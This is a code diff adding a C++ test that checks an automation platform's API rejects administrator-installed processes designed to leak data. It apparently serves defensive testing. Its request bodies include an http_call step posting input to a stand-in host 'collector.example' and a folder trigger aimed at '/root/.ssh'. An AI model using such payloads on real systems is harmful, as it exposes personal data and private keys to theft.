@@ -133,6 +133,50 @@ TEST_P(RoboticsApi, AnAdministratorInstallsAProcessThatAnotherSystemStartsByWebh
             422);
 }
 
+// The assessment's attempt, over HTTP: an automation administrator cannot install a process that
+// copies callers out, nor point a folder trigger at the server's own files; the process they
+// may install is retired in one call and then takes no submissions.
+TEST_P(RoboticsApi, AnAutomationAdministratorCannotCopyPersonalDataOut) {
+  const auto exfiltrate = call("POST", "/api/v1/robotics/processes",
+                               R"({"id": "copy-out", "name": "Copy", "version": 1,
+    "trigger": {"kind": "event", "source": "IncidentOpened"}, "queue": "q",
+    "fields": [{"name": "caller", "type": "text"}],
+    "steps": [{"id": "t", "kind": "transform", "with": {"value": "${input.caller}", "into": "trim"}}]})",
+                               admin_);
+  EXPECT_EQ(exfiltrate.status, 403) << exfiltrate.body;
+  EXPECT_NE(exfiltrate.body.find("cad.read"), std::string::npos) << exfiltrate.body;
+  const auto send = call("POST", "/api/v1/robotics/processes",
+                         R"({"id": "send-out", "name": "Send", "version": 1,
+    "trigger": {"kind": "webhook"}, "queue": "q", "fields": [{"name": "x", "type": "text"}],
+    "steps": [{"id": "s", "kind": "http_call", "with": {"url": "https://collector.example/in", "body": "${input.x}"}}]})",
+                         admin_);
+  ASSERT_EQ(send.status, 422) << send.body;
+  EXPECT_NE(send.body.find("steps[0].with.url"), std::string::npos) << send.body;
+  const auto keys = call("POST", "/api/v1/robotics/processes",
+                         R"({"id": "keys", "name": "Keys", "version": 1,
+    "trigger": {"kind": "folder", "source": "/root/.ssh", "format": "csv"}, "queue": "q",
+    "fields": [{"name": "x", "type": "text"}],
+    "steps": [{"id": "v", "kind": "validate"}]})",
+                         admin_);
+  ASSERT_EQ(keys.status, 422) << keys.body;
+  EXPECT_NE(keys.body.find("trigger.source"), std::string::npos) << keys.body;
+
+  const std::string ok = R"({"id": "notes", "name": "Notes", "version": 1,
+    "trigger": {"kind": "webhook"}, "queue": "q", "fields": [{"name": "x", "type": "text"}],
+    "steps": [{"id": "v", "kind": "validate"}]})";
+  ASSERT_EQ(call("POST", "/api/v1/robotics/processes", ok, admin_).status, 201);
+  ASSERT_EQ(call("POST", "/api/v1/robotics/webhooks/notes", R"({"x": "a"})", portal_).status, 202);
+  EXPECT_EQ(call("POST", "/api/v1/robotics/processes/notes/versions/1/retire", "{}", admin_).status,
+            422)
+      << "a reason is needed";
+  const auto retired = call("POST", "/api/v1/robotics/processes/notes/versions/1/retire",
+                            R"({"reason": "replaced by the new intake"})", admin_);
+  ASSERT_EQ(retired.status, 200) << retired.body;
+  const auto late = call("POST", "/api/v1/robotics/webhooks/notes", R"({"x": "b"})", portal_);
+  EXPECT_EQ(late.status, 409) << late.body;
+  EXPECT_NE(late.body.find("retired"), std::string::npos) << late.body;
+}
+
 class RoboticsWorkers : public RoboticsApi {
  protected:
   void adjust(app::PlatformOptions& options) override {
